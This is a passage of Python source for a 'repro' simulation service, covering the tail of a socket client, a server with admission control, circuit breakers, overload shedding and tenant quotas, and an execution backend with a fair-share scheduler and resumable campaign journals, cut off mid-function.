                sock.connect(str(self.address))
            except OSError as error:
                sock.close()
                raise ServeError(
                    "cannot connect to {}: {}".format(self.address, error)
                ) from error
        self.sock = sock
        if tenant is not None:
            self.send({"type": "hello", "tenant": tenant,
                       "proto": protocol.PROTO})
            reply = self.recv()
            if reply.get("type") == "error":
                raise ProtocolError(reply.get("message", "hello rejected"))
            if reply.get("type") != "welcome":
                raise ProtocolError(
                    "expected welcome, got {!r}".format(reply.get("type"))
                )
            self.welcome = reply
        return self

    def close(self):
        if self.sock is not None:
            try:
                self.sock.sendall(protocol.encode({"type": "bye"}))
            except OSError:
                pass
            try:
                self.sock.close()
            except OSError:
                pass
            self.sock = None

    def __enter__(self):
        return self

    def __exit__(self, exc_type, exc, tb):
        self.close()
        return False

    # -- wire ------------------------------------------------------------------

    def send(self, message):
        self.sock.sendall(protocol.encode(message))

    def recv(self):
        """Read one message (blocking up to the socket timeout)."""
        while b"\n" not in self._buffer:
            try:
                chunk = self.sock.recv(65536)
            except socket.timeout as error:
                raise ServeError(
                    "timed out waiting for the server"
                ) from error
            if not chunk:
                raise ServeError("server closed the connection")
            self._buffer += chunk
        line, self._buffer = self._buffer.split(b"\n", 1)
        try:
            return json.loads(line.decode("utf-8"))
        except (UnicodeDecodeError, json.JSONDecodeError) as error:
            raise ProtocolError(
                "unparseable server message"
            ) from error

    # -- requests --------------------------------------------------------------

    def submit(self, request_id, scenario=None, plan=None, deadline_s=None,
               priority=None, on_event=None, wait=True):
        """Submit one request; returns the terminal server message.

        The return value is the ``verdict`` for accepted requests, the
        ``rejected`` message for shed ones, and (with ``wait=False``)
        the bare admission verdict -- ``accepted`` / ``rejected`` --
        without waiting for completion.  ``on_event`` sees every
        streamed ``event`` for this id.

        Rejections whose ``reason`` is in :data:`RETRYABLE_REASONS`
        (breaker cooldowns, overload shedding) are waited out and
        resubmitted up to ``self.retries`` times before being
        returned; every other rejection surfaces immediately.
        """
        message = {"type": "submit", "id": request_id}
        if scenario is not None:
            message["scenario"] = scenario
        if plan is not None:
            message["plan"] = plan
        if deadline_s is not None:
            message["deadline_s"] = deadline_s
        if priority is not None:
            message["priority"] = priority
        attempt = 0
        while True:
            reply = self._submit_once(message, request_id, on_event, wait)
            if reply.get("type") != "rejected" \
                    or reply.get("reason") not in RETRYABLE_REASONS \
                    or attempt >= self.retries:
                return reply
            attempt += 1
            hint = reply.get("retry_after_s")
            if not isinstance(hint, (int, float)) or hint <= 0:
                hint = 1.0
            time.sleep(min(
                self.max_backoff_s,
                hint * seeded_jitter(self.seed, request_id, attempt),
            ))

    def _submit_once(self, message, request_id, on_event, wait):
        self.send(message)
        accepted = None
        while True:
            reply = self.recv()
            kind = reply.get("type")
            if kind == "error":
                raise ProtocolError(reply.get("message", "protocol error"))
            if reply.get("id") != request_id:
                continue  # someone else's stream noise
            if kind == "rejected":
                return reply
            if kind == "accepted":
                accepted = reply
                if not wait:
                    return reply
                continue
            if kind == "event":
                if on_event is not None:
                    on_event(reply)
                continue
            if kind == "verdict":
                if accepted is not None:
                    reply.setdefault("degrade", accepted.get("degrade"))
                return reply

    def health(self):
        """Liveness probe (allowed before hello)."""
        self.send({"type": "health"})
        while True:
            reply = self.recv()
            if reply.get("type") == "health":
                return reply

    def status(self):
        """Deep introspection document (allowed before hello)."""
        self.send({"type": "status"})
        while True:
            reply = self.recv()
            if reply.get("type") == "status":
                return reply

    def drain(self, wait=True):
        """Ask the server to drain; with ``wait``, block until it has."""
        self.send({"type": "drain"})
        acked = False
        while True:
            try:
                reply = self.recv()
            except ServeError:
                # the drained server closes connections; that IS the end
                if acked or not wait:
                    return {"type": "drained"}
                raise
            kind = reply.get("type")
            if kind == "draining":
                acked = True
                if not wait:
                    return reply
            elif kind == "drained":
                return reply
