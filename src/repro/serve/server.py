"""The long-running attack-simulation service.

:class:`ServeServer` listens on a Unix (or TCP) socket, speaks
:mod:`repro.serve.protocol`, and turns admitted submissions into work
on a :class:`~repro.serve.backend.ServeBackend`.  One thread accepts,
one thread per connection reads; everything else is event-driven
callbacks out of the backend.  The robustness rules, in admission
order:

1. a **draining** server admits nothing (typed ``Overloaded``,
   ``reason="draining"``);
2. the **global circuit breaker** sheds wholesale
   (``reason="circuit-open"``, with ``retry_after_s`` from the
   cooldown); per-shard breakers never shed -- they mark the admission
   *degraded*, because the fabric's survivors still absorb a
   quarantined shard's units;
3. the **overload governor** (:mod:`repro.serve.overload`) reads its
   watermarks: ``shedding`` refuses everything
   (``reason="shedding"``), ``degraded`` refuses sub-floor-priority
   work (``reason="degraded"``) and stamps what it still admits with
   an ``overload`` degrade mark, carried on the accepted/verdict
   messages (never into the persisted result store);
4. the **global queue bound** rejects what would overcommit the
   service (``reason="queue-full"``);
5. the **tenant quota** rejects what would overcommit the tenant
   (typed ``QuotaExceeded`` with the exhausted dimension).

Admitted work is ordered by the backend's per-tenant fair-share
scheduler, whose weights come from the tenant quota config; the
``status`` verb exposes the scheduler's fairness evidence and the
governor's watermark readings.

Every admitted request is released exactly once -- verdict sent,
stream dead, or drain -- so quotas cannot leak.  Slow clients hit the
per-send write timeout: the stream is dropped (socket closed, events
discarded) but the computation keeps its course and its result is
already persisted under the state directory.

SIGTERM/SIGINT (via :meth:`serve_forever`) triggers the graceful
drain: stop admitting, let the backend finish or journal everything
in flight, notify connected clients, seal up, exit cleanly.
"""

import os
import pathlib
import signal
import socket
import threading
import time

from repro.errors import Overloaded, ProtocolError, ReproError, ServeError
from repro.obs.metrics import (
    QUEUE_DEPTH_BUCKETS,
    QUEUE_WAIT_WALL_MS_BUCKETS,
    REQUEST_WALL_MS_BUCKETS,
)
from repro.obs.trace import NULL_TRACER
from repro.serve import overload, protocol
from repro.serve.backend import ServeBackend, Submission
from repro.serve.quota import QuotaLedger


class _Connection:
    """One client session: a reader thread plus a locked writer."""

    def __init__(self, server, sock, peer):
        self.server = server
        self.sock = sock
        self.peer = peer
        self.tenant = None
        self.alive = True
        self._send_lock = threading.Lock()
        self._thread = None

    def start(self):
        self._thread = threading.Thread(
            target=self._read_loop,
            name="repro-serve-conn-{}".format(self.peer), daemon=True,
        )
        self._thread.start()

    # -- writing ---------------------------------------------------------------

    def send(self, message):
        """Write one message; a slow or dead client drops the stream.

        Returns False once the stream is gone.  The write timeout is
        the whole slow-client policy: a client that cannot drain its
        socket within ``write_timeout_s`` loses its event stream (and
        its connection), never the server a buffer.
        """
        if not self.alive:
            return False
        try:
            data = protocol.encode(message)
        except ProtocolError:
            return False
        with self._send_lock:
            if not self.alive:
                return False
            try:
                self.sock.settimeout(self.server.write_timeout_s)
                self.sock.sendall(data)
                return True
            except (socket.timeout, OSError):
                self.server.count("serve.streams_dropped")
                self.close()
                return False

    def close(self):
        self.alive = False
        try:
            self.sock.close()
        except OSError:
            pass
        self.server._forget(self)

    # -- reading ---------------------------------------------------------------

    def _read_loop(self):
        buffer = b""
        self.sock.settimeout(0.5)
        try:
            while self.alive:
                try:
                    chunk = self.sock.recv(65536)
                except socket.timeout:
                    continue
                except OSError:
                    break
                if not chunk:
                    break
                buffer += chunk
                if len(buffer) > protocol.MAX_LINE_BYTES:
                    self.send(protocol.error(
                        "line exceeds the {} byte cap"
                        .format(protocol.MAX_LINE_BYTES)
                    ))
                    break
                while b"\n" in buffer:
                    line, buffer = buffer.split(b"\n", 1)
                    if not line.strip():
                        continue
                    if not self._dispatch(line):
                        return
        finally:
            self.close()

    def _dispatch(self, line):
        """Handle one wire line; False ends the session."""
        try:
            message = protocol.validate_client(protocol.parse_line(line))
        except ProtocolError as error:
            self.send(protocol.error(str(error)))
            return True
        kind = message["type"]
        if kind == "bye":
            return False
        if kind == "health":
            self.send(self.server.health())
            return True
        if kind == "status":
            self.send(self.server.status())
            return True
        if kind == "drain":
            self.send({"type": "draining"})
            self.server.drain_async()
            return True
        if kind == "hello":
            self.tenant = message["tenant"]
            self.send(protocol.welcome(self.server.server_meta(self.tenant)))
            return True
        # submit
        if self.tenant is None:
            self.send(protocol.error("submit before hello"))
            return True
        self.server.handle_submit(self, message)
        return True


class ServeServer:
    """The service: listener + admission control over a ServeBackend.

    ``socket_path`` selects a Unix socket; ``host``/``port`` a TCP one
    (``port=0`` binds an ephemeral port -- see :attr:`address`).
    ``max_queue`` bounds globally admitted units across all tenants;
    ``write_timeout_s`` is the slow-client stream policy; ``ready_file``
    (optional) is touched when the server is ready and removed when it
    drains, for supervisors that watch the filesystem.
    """

    def __init__(self, backend=None, ledger=None, socket_path=None,
                 host="127.0.0.1", port=0, max_queue=256,
                 write_timeout_s=5.0, ready_file=None, obs=None,
                 state_dir=None, governor=None, housekeep_s=60.0):
        if backend is None:
            if state_dir is None:
                raise ServeError("a server needs a backend or a state_dir")
            backend = ServeBackend(state_dir)
        self.backend = backend
        self.ledger = ledger if ledger is not None else QuotaLedger()
        self.breakers = backend.breakers
        self.socket_path = socket_path
        self.host = host
        self.port = port
        self.max_queue = max(1, max_queue)
        self.write_timeout_s = write_timeout_s
        self.ready_file = None if ready_file is None \
            else pathlib.Path(ready_file)
        self.obs = obs if obs is not None else NULL_TRACER
        self._obs_lock = threading.Lock()
        self._listener = None
        self._accept_thread = None
        self._connections = set()
        self._conn_lock = threading.Lock()
        self._admit_lock = threading.Lock()
        self._units_admitted = 0
        self._started = threading.Event()
        self._drain_lock = threading.Lock()
        self._draining = threading.Event()
        self._drained = threading.Event()
        self._stop = threading.Event()
        #: how often serve_forever re-evaluates watermarks and prunes
        self.housekeep_s = housekeep_s
        self.governor = governor if governor is not None \
            else overload.default_governor(self)
        # surface overload state through the breaker board (health,
        # forensics and the smoke harnesses all read breakers.as_dict)
        self.breakers.overload = self.governor
        # the scheduler's fairness knobs come from the quota config:
        # a tenant's weight rides its TenantQuota
        if self.backend.scheduler.weight_of is None:
            self.backend.scheduler.weight_of = \
                lambda tenant: self.ledger.quota_for(tenant).weight
        if self.backend.scheduler.on_wait is None:
            self.backend.scheduler.on_wait = self._note_queue_wait

    # -- lifecycle -------------------------------------------------------------

    @property
    def address(self):
        """Where clients connect: the socket path, or ``(host, port)``."""
        if self.socket_path is not None:
            return str(self.socket_path)
        return self._listener.getsockname() if self._listener else None

    def start(self):
        """Bind, listen, start the backend; returns the bound address."""
        if self.socket_path is not None:
            path = pathlib.Path(self.socket_path)
            if path.exists():
                # a stale socket from a crashed incarnation; refuse to
                # steal one something is still listening on
                probe = socket.socket(socket.AF_UNIX)
                try:
                    probe.settimeout(0.5)
                    probe.connect(str(path))
                except OSError:
                    path.unlink()
                else:
                    probe.close()
                    raise ServeError(
                        "socket {} already has a live server".format(path)
                    )
                finally:
                    probe.close()
            listener = socket.socket(socket.AF_UNIX)
            listener.bind(str(path))
        else:
            listener = socket.socket(socket.AF_INET)
            listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            listener.bind((self.host, self.port))
        listener.listen(64)
        listener.settimeout(0.5)
        self._listener = listener
        self.backend.start()
        self._accept_thread = threading.Thread(
            target=self._accept_loop, name="repro-serve-accept", daemon=True,
        )
        self._accept_thread.start()
        self._started.set()
        if self.ready_file is not None:
            self.ready_file.write_text("ready\n")
        return self.address

    def serve_forever(self, install_signals=True):
        """Run until stopped; SIGTERM/SIGINT drain gracefully.  Returns 0."""
        if install_signals:
            def _on_signal(signum, frame):
                self._stop.set()
            for signum in (signal.SIGTERM, signal.SIGINT):
                try:
                    signal.signal(signum, _on_signal)
                except ValueError:
                    pass  # not the main thread; supervisor calls drain()
        last_housekeep = time.monotonic()
        while not self._stop.wait(0.2):
            if self._drained.is_set():
                return 0
            # tick the watermarks even without traffic, so hysteresis
            # relaxes an idle-but-degraded server back to healthy
            self.governor.evaluate()
            if time.monotonic() - last_housekeep >= self.housekeep_s:
                self.backend.housekeep()
                last_housekeep = time.monotonic()
        self.drain()
        return 0

    def drain_async(self):
        """Kick a drain without blocking the caller (client ``drain``)."""
        self._stop.set()
        threading.Thread(target=self.drain, name="repro-serve-drain",
                         daemon=True).start()

    def drain(self, timeout=None):
        """Graceful shutdown: stop admitting, finish in-flight, seal, close."""
        with self._drain_lock:
            first = not self._draining.is_set()
            self._draining.set()
        if not first:
            self._drained.wait(timeout)
            return
        self._stop.set()
        if self.ready_file is not None:
            try:
                self.ready_file.unlink()
            except OSError:
                pass
        self._broadcast({"type": "draining"})
        self.backend.drain(timeout=timeout)
        self._broadcast({"type": "drained"})
        self._close_listener()
        with self._conn_lock:
            connections = list(self._connections)
        for connection in connections:
            connection.close()
        self._drained.set()

    def close(self):
        """Hard stop for tests: no graceful anything."""
        self._draining.set()
        self._drained.set()
        self._stop.set()
        self._close_listener()
        with self._conn_lock:
            connections = list(self._connections)
        for connection in connections:
            connection.close()

    def _close_listener(self):
        if self._listener is not None:
            try:
                self._listener.close()
            except OSError:
                pass
        if self.socket_path is not None:
            try:
                pathlib.Path(self.socket_path).unlink()
            except OSError:
                pass

    # -- connections -----------------------------------------------------------

    def _accept_loop(self):
        peer = 0
        while not self._drained.is_set():
            try:
                sock, __ = self._listener.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            peer += 1
            connection = _Connection(self, sock, peer)
            with self._conn_lock:
                self._connections.add(connection)
            connection.start()

    def _forget(self, connection):
        with self._conn_lock:
            self._connections.discard(connection)

    def _broadcast(self, message):
        with self._conn_lock:
            connections = list(self._connections)
        for connection in connections:
            connection.send(message)

    # -- admission -------------------------------------------------------------

    def admit(self, tenant, units, deadline_s=None, priority=1):
        """Run the full admission ladder; returns the effective deadline.

        Raises :class:`Overloaded` (draining / circuit-open / shedding
        / degraded / queue-full) or :class:`QuotaExceeded` -- always
        typed, always before any state changes the caller would have
        to undo.  The overload governor sits between the breaker and
        the queue bound: **shedding** refuses everything, **degraded**
        refuses only work whose ``priority`` is below the floor
        (:data:`repro.serve.overload.DEGRADED_PRIORITY_FLOOR`).
        """
        if self._draining.is_set():
            raise Overloaded("server is draining", reason="draining")
        if not self.breakers.backend.allow():
            raise Overloaded(
                "backend circuit breaker is open",
                reason="circuit-open",
                retry_after_s=round(self.breakers.backend.retry_after_s(), 3),
            )
        state = self.governor.evaluate()
        if state == overload.SHEDDING:
            self.governor.note_shed(state)
            self.count("serve.shed")
            raise Overloaded(
                "service is shedding load (overload watermark crossed)",
                reason="shedding",
                retry_after_s=self.governor.retry_after_s(state),
            )
        if state == overload.DEGRADED \
                and priority < overload.DEGRADED_PRIORITY_FLOOR:
            self.governor.note_shed(state)
            self.count("serve.shed")
            raise Overloaded(
                "service is degraded; priority {} work is shed until "
                "pressure recedes".format(priority),
                reason="degraded",
                retry_after_s=self.governor.retry_after_s(state),
            )
        with self._admit_lock:
            if self._units_admitted + units > self.max_queue:
                raise Overloaded(
                    "admitting {} units would exceed the global bound "
                    "of {} ({} admitted)".format(
                        units, self.max_queue, self._units_admitted),
                    reason="queue-full", retry_after_s=1.0,
                )
            deadline_s = self.ledger.admit(tenant, units, deadline_s)
            self._units_admitted += units
            depth = self._units_admitted
        if self.obs.enabled:
            with self._obs_lock:
                self.obs.metrics.observe("serve.queue_depth", depth,
                                         buckets=QUEUE_DEPTH_BUCKETS)
        return deadline_s

    def release(self, tenant, units):
        with self._admit_lock:
            self._units_admitted = max(0, self._units_admitted - units)
        self.ledger.release(tenant, units)

    def units_admitted(self):
        """Currently admitted units (the queue watermark's probe)."""
        with self._admit_lock:
            return self._units_admitted

    def count(self, name, amount=1):
        if self.obs.enabled:
            with self._obs_lock:
                self.obs.metrics.inc(name, amount)

    def _note_queue_wait(self, tenant, wait_s):
        """Scheduler dispatch hook: record per-dispatch queue wait."""
        if self.obs.enabled:
            with self._obs_lock:
                self.obs.metrics.observe(
                    "serve.queue_wait_wall_ms", wait_s * 1000.0,
                    buckets=QUEUE_WAIT_WALL_MS_BUCKETS,
                )

    # -- request handling ------------------------------------------------------

    def handle_submit(self, connection, message):
        tenant = connection.tenant
        request_id = message["id"]
        scenario = message.get("scenario")
        plan = message.get("plan")
        priority = message.get("priority", 1)
        try:
            units = 1 if scenario is not None else self._plan_units(plan)
            deadline_s = self.admit(tenant, units,
                                    message.get("deadline_s"),
                                    priority=priority)
        except ReproError as error:
            self.count("serve.rejected")
            connection.send(protocol.rejected(request_id, error))
            return
        admitted_at = time.monotonic()
        sub = Submission(
            "{}.{}".format(tenant, request_id), tenant, request_id,
            "scenario" if scenario is not None else "plan", units,
            deadline_s=deadline_s, priority=priority,
            on_event=lambda kind, fields, c=connection, r=request_id:
                c.send(protocol.event(r, kind, **fields)),
            on_done=lambda s, c=connection, t0=admitted_at:
                self._finish_submission(c, s, t0),
        )
        # work admitted while the governor is degraded carries an
        # "overload" degrade mark from admission to verdict -- on the
        # wire only, never in the persisted result store (serve and
        # offline stores must stay byte-comparable)
        if self.governor.state != overload.HEALTHY:
            sub.degrade_marks.append("overload")
        try:
            if scenario is not None:
                self.backend.submit_scenario(sub, scenario)
            else:
                self.backend.submit_plan(sub, plan)
        except ReproError as error:
            self.release(tenant, units)
            self.count("serve.rejected")
            connection.send(protocol.rejected(request_id, error))
            return
        self.count("serve.admitted")
        degrade = ["shard-{}".format(i)
                   for i in self.breakers.degraded_shards()]
        degrade.extend(sub.degrade_marks)
        connection.send(protocol.accepted(
            request_id, self.backend.queue_depth(),
            degrade=degrade or None,
        ))

    def _plan_units(self, plan):
        from repro.campaign.runner import plan_units
        return len(plan_units(plan["directory"]))

    def _finish_submission(self, connection, sub, admitted_at):
        """Terminal hook: quota back first, then the verdict (best effort).

        Releasing before sending keeps the ledger consistent with what
        the client observes: by the time the verdict line arrives, the
        request no longer holds quota.
        """
        self.release(sub.tenant, sub.units)
        self.count("serve.finished")
        if self.obs.enabled:
            with self._obs_lock:
                self.obs.metrics.observe(
                    "serve.request_wall_ms",
                    (time.monotonic() - admitted_at) * 1000.0,
                    buckets=REQUEST_WALL_MS_BUCKETS,
                )
        fields = dict(sub.verdict)
        if sub.degrade_marks:
            marks = list(fields.get("degrade") or [])
            fields["degrade"] = sorted(set(marks + sub.degrade_marks))
        connection.send(protocol.verdict(sub.request_id, **fields))

    # -- introspection ---------------------------------------------------------

    def server_meta(self, tenant):
        return {
            "shards": self.backend.shards,
            "jobs": self.backend.jobs,
            "quota": self.ledger.quota_for(tenant).as_dict(),
            "max_queue": self.max_queue,
        }

    def health(self):
        """The health/readiness document (also the ``health`` reply)."""
        with self._admit_lock:
            admitted = self._units_admitted
        return {
            "type": "health",
            "proto": protocol.PROTO,
            "status": "draining" if self._draining.is_set()
            else ("ok" if self.governor.state == overload.HEALTHY
                  else self.governor.state),
            "ready": self._started.is_set()
            and not self._draining.is_set(),
            "shards": self.backend.shards,
            "queue": {
                "units_admitted": admitted,
                "max": self.max_queue,
                "executor": self.backend.queue_depth(),
            },
            "breakers": self.breakers.as_dict(),
            "tenants": self.ledger.snapshot(),
        }

    def status(self):
        """The deep introspection document (the ``status`` reply).

        Everything an operator needs to answer "who is the service
        actually serving, and under what pressure": the scheduler's
        per-tenant fairness evidence, the overload governor's
        watermark readings, and the breaker board.
        """
        with self._admit_lock:
            admitted = self._units_admitted
        return {
            "type": "status",
            "proto": protocol.PROTO,
            "draining": self._draining.is_set(),
            "overload": self.governor.snapshot(),
            "scheduler": self.backend.scheduler.snapshot(),
            "queue": {
                "units_admitted": admitted,
                "max": self.max_queue,
                "executor": self.backend.queue_depth(),
                "inflight": self.backend.inflight(),
            },
            "breakers": self.breakers.as_dict(),
            "tenants": self.ledger.snapshot(),
        }
