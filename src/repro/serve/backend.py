"""The serve execution backend: admitted requests become campaign work.

Two request shapes run here, both through the *existing* campaign
machinery -- the service adds admission and streaming, never a second
execution path (that is what keeps serve results byte-comparable with
offline runs):

* **inline scenarios** run on one persistent
  :class:`~repro.campaign.pool.SupervisedPool` fed incrementally from
  the per-tenant :class:`~repro.serve.scheduler.FairShareScheduler`
  (weighted fair share across tenants, earliest-deadline-first within
  one, aging against starvation -- admission decides *whether* work
  enters, the scheduler decides *whose* work runs next).  The worker
  function is the campaign runner's
  own :func:`~repro.campaign.runner._run_unit`, the deadline
  degradation goes through the same
  :func:`~repro.campaign.runner.outcome_result` mapping, and every
  result is persisted to the state directory *before* the verdict is
  streamed -- a slow or dead client drops the stream, never the
  computation;
* **plan submissions** run a full
  :class:`~repro.campaign.coordinator.ShardedCampaignRunner` over a
  scenario directory, one runner thread per admitted plan, with the
  journal parked under the state directory keyed by ``(tenant, id)``.
  Resubmitting the same request id after a drain resumes that journal
  -- the store that comes out is byte-identical (modulo wall-clock
  stamps) to an uninterrupted offline ``repro campaign run``.

Draining stops the feed (queued-but-admitted scenarios still finish:
the client was told "accepted", so its work is in-flight from the
contract's point of view), asks every live plan runner to drain, and
joins the executor thread.  Everything the backend learns about
failures feeds the :class:`~repro.serve.breaker.BreakerBoard`.
"""

import pathlib
import threading
import time

from repro.campaign.coordinator import ShardedCampaignRunner
from repro.campaign.pool import SupervisedPool
from repro.campaign.runner import (
    DEFAULT_MAX_RETRIES,
    DEFAULT_WATCHDOG_S,
    _run_unit,
    outcome_result,
)
from repro.errors import ProtocolError, ReproError
from repro.ioutil import prune_stale_artifacts, write_json_atomic
from repro.serve.breaker import BreakerBoard
from repro.serve.scheduler import FairShareScheduler

#: terminal verdict statuses
DONE = "done"
SKIPPED = "skipped"
FAILED = "failed"
INTERRUPTED = "interrupted"


class Submission:
    """One admitted request travelling through the backend.

    ``rid`` is the tenant-namespaced request key (``tenant.id``) used
    for unit ids and state-directory file names; ``units`` is what the
    quota ledger charged.  ``on_event`` streams unit progress to the
    client; ``on_done`` fires exactly once with the terminal verdict
    fields -- both callbacks belong to the connection and are allowed
    to be broken (a dead client never breaks the backend).
    """

    __slots__ = ("rid", "tenant", "request_id", "kind", "units",
                 "deadline_s", "deadline", "priority", "degrade_marks",
                 "on_event", "on_done", "done", "verdict", "_lock")

    def __init__(self, rid, tenant, request_id, kind, units,
                 deadline_s=None, priority=1, on_event=None,
                 on_done=None):
        self.rid = rid
        self.tenant = tenant
        self.request_id = request_id
        self.kind = kind
        self.units = units
        self.deadline_s = deadline_s
        self.deadline = None if deadline_s is None \
            else time.monotonic() + deadline_s
        #: admission priority: higher launches first within a feed
        #: batch; below the degraded floor it is shed under overload
        self.priority = priority
        #: degrade flags the server stamped at admission ("overload");
        #: they ride the verdict *message*, never the persisted result
        self.degrade_marks = []
        self.on_event = on_event
        self.on_done = on_done
        self.done = threading.Event()
        self.verdict = None
        self._lock = threading.Lock()

    def expired(self):
        return self.deadline is not None \
            and time.monotonic() >= self.deadline

    def emit_event(self, kind, fields):
        """Stream one progress event; sink failures are the client's loss."""
        if self.on_event is None:
            return
        try:
            self.on_event(kind, dict(fields))
        except Exception:  # noqa: BLE001 -- never let a dead stream
            pass           # poison the executor thread

    def complete(self, status, **fields):
        """Record the terminal verdict; idempotent, first writer wins."""
        with self._lock:
            if self.done.is_set():
                return
            self.verdict = {"status": status}
            self.verdict.update(fields)
            self.done.set()
        if self.on_done is not None:
            try:
                self.on_done(self)
            except Exception:  # noqa: BLE001
                pass


class ServeBackend:
    """Execute admitted submissions against the campaign fabric.

    ``state_dir`` holds everything durable: inline scenario specs and
    their persisted results, and one campaign journal (plus shard
    journals, store and beat debris) per plan submission.  ``shards``
    and ``jobs`` size the fabric defaults; a plan block may override
    shards/seed per request -- but not the supervision parameters,
    which are service policy.
    """

    def __init__(self, state_dir, shards=2, jobs=None,
                 watchdog_s=DEFAULT_WATCHDOG_S,
                 max_retries=DEFAULT_MAX_RETRIES, seed=0, breakers=None,
                 scheduler=None, prune_age_s=3600.0, prune_keep=4):
        self.state_dir = pathlib.Path(state_dir)
        self.scenario_dir = self.state_dir / "scenarios"
        self.result_dir = self.state_dir / "results"
        self.plan_dir = self.state_dir / "plans"
        self.shards = max(1, shards)
        self.jobs = max(1, jobs if jobs is not None else self.shards)
        self.watchdog_s = watchdog_s
        self.max_retries = max_retries
        self.seed = seed
        self.breakers = breakers if breakers is not None \
            else BreakerBoard(self.shards)
        #: the fair-share scheduler between admission and the pool; the
        #: server wires its weight_of to the tenant quota config
        self.scheduler = scheduler if scheduler is not None \
            else FairShareScheduler()
        #: debris-rotation policy (service deployments tune these)
        self.prune_age_s = prune_age_s
        self.prune_keep = prune_keep
        self._lock = threading.Lock()
        self._active = {}
        self._plan_runners = {}
        self._plan_threads = []
        self._drain = threading.Event()
        self._pool_thread = None

    # -- lifecycle -------------------------------------------------------------

    def start(self):
        """Create the state layout and the persistent executor thread."""
        for directory in (self.state_dir, self.scenario_dir,
                          self.result_dir, self.plan_dir):
            directory.mkdir(parents=True, exist_ok=True)
        self.housekeep()
        self._pool_thread = threading.Thread(
            target=self._pool_loop, name="repro-serve-pool", daemon=True,
        )
        self._pool_thread.start()

    def drain(self, timeout=None):
        """Graceful stop: finish admitted work, refuse nothing new here.

        (Refusing *new* work is the server's admission check; by the
        time a submission reaches the backend it was accepted and must
        reach a terminal verdict.)  Blocks until the executor thread
        and every plan runner thread have ended, or ``timeout``.
        """
        self._drain.set()
        with self._lock:
            runners = list(self._plan_runners.values())
            threads = list(self._plan_threads)
        for runner in runners:
            runner.request_drain()
        deadline = None if timeout is None \
            else time.monotonic() + timeout
        for thread in [self._pool_thread] + threads:
            if thread is None:
                continue
            remaining = None if deadline is None \
                else max(0.0, deadline - time.monotonic())
            thread.join(remaining)

    @property
    def draining(self):
        return self._drain.is_set()

    def housekeep(self):
        """Rotate crash debris out of the state directory.

        Runs at start *and* periodically during long service runs --
        which is why live plans are excluded: a plan that has been
        appending its journal for hours still owns every artifact
        named after its rid (journal tmp siblings, shard journals,
        beat directories), however stale their mtimes look.  Returns
        the removed paths.
        """
        with self._lock:
            live = set(self._plan_runners)

        def is_live(path):
            name = path.name
            return any(name.startswith(rid + ".") for rid in live)

        removed = []
        # plan journals themselves are precious -- only tmp files and
        # beat directories are fair game
        for directory in (self.result_dir, self.plan_dir):
            removed.extend(prune_stale_artifacts(
                directory, patterns=("*.tmp", "*.beats-*"),
                max_age_s=self.prune_age_s, keep=self.prune_keep,
                exclude=is_live,
            ))
        return removed

    def queue_depth(self):
        """Scenario units queued or running (health / accepted replies)."""
        with self._lock:
            active = len(self._active)
        return self.scheduler.depth() + active

    def inflight(self):
        """Scenario units actually launched on the pool (overload signal)."""
        with self._lock:
            return len(self._active)

    # -- intake ----------------------------------------------------------------

    def submit_scenario(self, sub, spec):
        """Persist ``spec`` and hand it to the fair-share scheduler."""
        path = self.scenario_dir / (sub.rid + ".json")
        write_json_atomic(path, spec)
        with self._lock:
            if sub.rid in self._active or self.scheduler.queued(sub.rid):
                raise ProtocolError(
                    "request {} is already in flight".format(sub.rid)
                )
            self.scheduler.push(
                sub.tenant, sub.rid, (sub, str(path)),
                deadline=sub.deadline,
            )

    def submit_plan(self, sub, plan):
        """Launch (or resume) a sharded campaign for ``plan``."""
        with self._lock:
            if sub.rid in self._plan_runners:
                raise ProtocolError(
                    "request {} is already in flight".format(sub.rid)
                )
            journal = self.plan_dir / (sub.rid + ".jsonl")
            runner = ShardedCampaignRunner(
                journal,
                directory=plan["directory"],
                shards=plan.get("shards", self.shards),
                jobs=plan.get("jobs", self.jobs),
                watchdog_s=self.watchdog_s,
                deadline_s=sub.deadline_s,
                max_retries=self.max_retries,
                seed=plan.get("seed", self.seed),
                fault_profile=plan.get("fault_profile"),
                event_sink=sub.emit_event,
            )
            self._plan_runners[sub.rid] = runner
            thread = threading.Thread(
                target=self._plan_run, args=(sub, runner),
                name="repro-serve-plan-" + sub.rid, daemon=True,
            )
            self._plan_threads.append(thread)
        thread.start()

    # -- plan execution --------------------------------------------------------

    def _plan_run(self, sub, runner):
        resume = runner.journal.path.exists() \
            and runner.journal.path.stat().st_size > 0
        try:
            report = runner.run(resume=resume)
        except ReproError as error:
            self.breakers.backend.record_failure()
            sub.complete(FAILED, error=type(error).__name__,
                         message=str(error))
            return
        except Exception as error:  # noqa: BLE001 -- a plan thread must
            # end in a typed verdict, surprises included
            self.breakers.backend.record_failure()
            sub.complete(FAILED, error=type(error).__name__,
                         message=str(error))
            return
        finally:
            with self._lock:
                self._plan_runners.pop(sub.rid, None)
        self.breakers.record_report(report)
        fields = {
            "summary": report.summary,
            "store": str(report.store_path),
            "ok": report.ok,
            "steals": report.steals,
        }
        if report.shard_failures:
            fields["shard_failures"] = {
                str(k): v for k, v in sorted(report.shard_failures.items())
            }
        if report.interrupted:
            sub.complete(INTERRUPTED, resumable=True, **fields)
        else:
            sub.complete(DONE, **fields)

    # -- scenario execution ----------------------------------------------------

    def _pool_loop(self):
        """The persistent executor: one supervised pool fed off the queue.

        A pool that breaks hard (anything escaping ``run``) fails the
        in-flight submissions with a typed verdict, trips the backend
        breaker, and respawns -- the service outlives its executor.
        """
        while True:
            pool = SupervisedPool(
                jobs=self.jobs, watchdog_s=self.watchdog_s,
                max_retries=self.max_retries, seed=self.seed,
                beat_root=str(self.state_dir), beat_prefix="serve.beats-",
            )
            try:
                pool.run(
                    [], _run_unit,
                    feed=self._feed,
                    feed_priority=self._feed_rank,
                    on_retry=self._on_retry,
                    on_finish=self._on_finish,
                )
            except Exception as error:  # noqa: BLE001
                self.breakers.backend.record_failure()
                self._fail_in_flight(error)
                if self._drain.is_set():
                    return
                time.sleep(0.2)
                continue
            return  # feed returned None: drained and empty

    def _feed(self, room):
        """Hand the pool scheduler-ordered scenarios; expired ones skip here.

        The scheduler decides *which tenant's* unit dispatches next
        (weighted fair share + aging); this feed only moves what it
        releases onto the pool.
        """
        batch = []
        expired = []
        # take() and the _active registration happen under one hold of
        # the backend lock: submit_scenario checks "in _active or still
        # queued" under the same lock, so a duplicate rid can never
        # slip through the window between leaving the scheduler and
        # becoming in-flight
        with self._lock:
            for __, rid, (sub, path) in self.scheduler.take(room):
                if sub.expired():
